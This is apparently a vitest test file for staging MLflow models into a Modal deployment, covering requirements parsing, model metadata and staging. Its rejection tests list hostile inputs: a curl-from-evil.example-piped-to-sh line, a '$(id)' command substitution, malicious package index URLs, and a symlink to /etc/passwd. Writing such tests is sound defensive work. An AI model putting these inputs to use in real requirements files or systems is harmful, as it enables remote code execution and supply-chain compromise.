import { mkdtemp, mkdir, readFile, readdir, rm, symlink, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { DeployError } from "../errors";
import { ModalConfig } from "../types";
import { MODAL_APP_TEMPLATE } from "./modal-app";
import { mlflowVersionOf, parseRequirements, pythonVersionOf, readModelFacts, stageModalApp } from "./modal-stage";

// The files `mlflow.sklearn.save_model` writes (MLflow 3.18), trimmed to what staging reads.
const MLMODEL = `flavors:
  python_function:
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.sklearn
    model_path: model.skops
    python_version: 3.11.7
mlflow_version: 3.18.0
model_size_bytes: 11634
`;
const REQUIREMENTS = "mlflow==3.18.0\nnumpy==2.4.6\npandas==3.1.1\nscikit-learn==1.9.1\nscipy==1.17.1\nskops==0.16.0";
const PYTHON_ENV = "python: 3.11.7\nbuild_dependencies:\n- pip==23.2.1\ndependencies:\n- -r requirements.txt\n";

describe("parseRequirements", () => {
  it("keeps plain requirements, drops comments, blank lines and MLflow itself", () => {
    const text = [
      "# generated",
      "mlflow==3.18.0",
      "mlflow[gateway]>=3.18",
      "mlflow-skinny==3.18.0",
      "",
      "scikit-learn==1.9.1  # the model",
      "torch>=2.1, <3",
      "uvicorn[standard]~=0.30",
      'pywin32==306; sys_platform == "win32"',
      "cloudpickle",
    ].join("\n");
    expect(parseRequirements(text)).toEqual([
      "mlflow-skinny==3.18.0",
      "scikit-learn==1.9.1",
      "torch>=2.1, <3",
      "uvicorn[standard]~=0.30",
      'pywin32==306; sys_platform == "win32"',
      "cloudpickle",
    ]);
  });

  it.each([
    "--index-url https://evil.example/simple",
    "-r other.txt",
    "-e git+https://evil.example/x.git#egg=x",
    "evil @ https://evil.example/evil.whl",
    "./local/package",
    "/abs/path.whl",
    "numpy==1.0 && curl evil.example | sh",
    "numpy==$(id)",
  ])("refuses %j (pip would read it as an option, a URL or a path)", (line) => {
    expect(() => parseRequirements(`numpy==2.4.6\n${line}\n`)).toThrow(DeployError);
    expect(() => parseRequirements(`numpy==2.4.6\n${line}\n`)).toThrow(/line 2/);
  });
});

describe("model facts", () => {
  it("reads mlflow_version from MLmodel and major.minor from python_env.yaml", () => {
    expect(mlflowVersionOf(MLMODEL)).toBe("3.18.0");
    expect(mlflowVersionOf("flavors: {}\n")).toBeUndefined();
    expect(pythonVersionOf(PYTHON_ENV)).toBe("3.11");
    expect(pythonVersionOf("python: '3.12'\n")).toBe("3.12");
    expect(pythonVersionOf("dependencies: []\n")).toBeNull();
  });
});

describe("stageModalApp", () => {
  let tmp: string;
  let model: string;
  beforeEach(async () => {
    tmp = await mkdtemp(path.join(os.tmpdir(), "mltrack-modal-stage-"));
    model = path.join(tmp, "downloaded");
    await mkdir(path.join(model, "sub"), { recursive: true });
    await writeFile(path.join(model, "MLmodel"), MLMODEL);
    await writeFile(path.join(model, "requirements.txt"), REQUIREMENTS);
    await writeFile(path.join(model, "python_env.yaml"), PYTHON_ENV);
    await writeFile(path.join(model, "model.skops"), "weights");
    await writeFile(path.join(model, "sub", "extra.json"), "{}");
  });
  afterEach(() => rm(tmp, { recursive: true, force: true }));

  it("writes the template, deploy.json and a copy of the model under <workDir>/modal", async () => {
    const workDir = path.join(tmp, "d-0123456789ab");
    const staged = await stageModalApp({
      workDir,
      modelDir: model,
      appName: "mltrack-iris-3",
      config: ModalConfig.parse({}),
    });
    expect(staged.dir).toBe(path.join(workDir, "modal"));
    expect((await readdir(staged.dir)).sort()).toEqual(["app.py", "deploy.json", "model"]);
    expect(await readFile(staged.appFile, "utf8")).toBe(MODAL_APP_TEMPLATE);
    expect((await readdir(staged.modelDir)).sort()).toEqual([
      "MLmodel",
      "model.skops",
      "python_env.yaml",
      "requirements.txt",
      "sub",
    ]);
    expect(await readFile(path.join(staged.modelDir, "sub", "extra.json"), "utf8")).toBe("{}");
    const spec = JSON.parse(await readFile(staged.specFile, "utf8")) as Record<string, unknown>;
    expect(spec).toMatchObject({
      app_name: "mltrack-iris-3",
      label: "mltrack-iris-3",
      python_version: "3.11",
      mlflow_version: "3.18.0",
      requirements: ["numpy==2.4.6", "pandas==3.1.1", "scikit-learn==1.9.1", "scipy==1.17.1", "skops==0.16.0"],
      gpu: null,
    });
  });

  it("starts afresh on a second staging", async () => {
    const workDir = path.join(tmp, "d-0123456789ab");
    const first = await stageModalApp({ workDir, modelDir: model, appName: "a", config: ModalConfig.parse({}) });
    await writeFile(path.join(first.modelDir, "stale.txt"), "old");
    const second = await stageModalApp({ workDir, modelDir: model, appName: "b", config: ModalConfig.parse({}) });
    expect(await readdir(second.modelDir)).not.toContain("stale.txt");
    expect(second.spec.app_name).toBe("b");
  });

  it("refuses a model folder holding a symbolic link", async () => {
    await symlink("/etc/passwd", path.join(model, "sub", "link"));
    await expect(
      stageModalApp({ workDir: path.join(tmp, "w"), modelDir: model, appName: "a", config: ModalConfig.parse({}) }),
    ).rejects.toThrow(/symbolic link/);
  });

  it("refuses a model without MLmodel or without mlflow_version", async () => {
    await writeFile(path.join(model, "MLmodel"), "flavors: {}\n");
    await expect(readModelFacts(model)).rejects.toThrow(/no mlflow_version/);
    await rm(path.join(model, "MLmodel"));
    await expect(readModelFacts(model)).rejects.toMatchObject({ code: "RESOURCE_DOES_NOT_EXIST" });
  });

  it("stages a model without requirements.txt or python_env.yaml with MLflow alone on the deploying Python", async () => {
    await rm(path.join(model, "requirements.txt"));
    await rm(path.join(model, "python_env.yaml"));
    expect(await readModelFacts(model)).toEqual({ mlflowVersion: "3.18.0", pythonVersion: null, requirements: [] });
  });
});
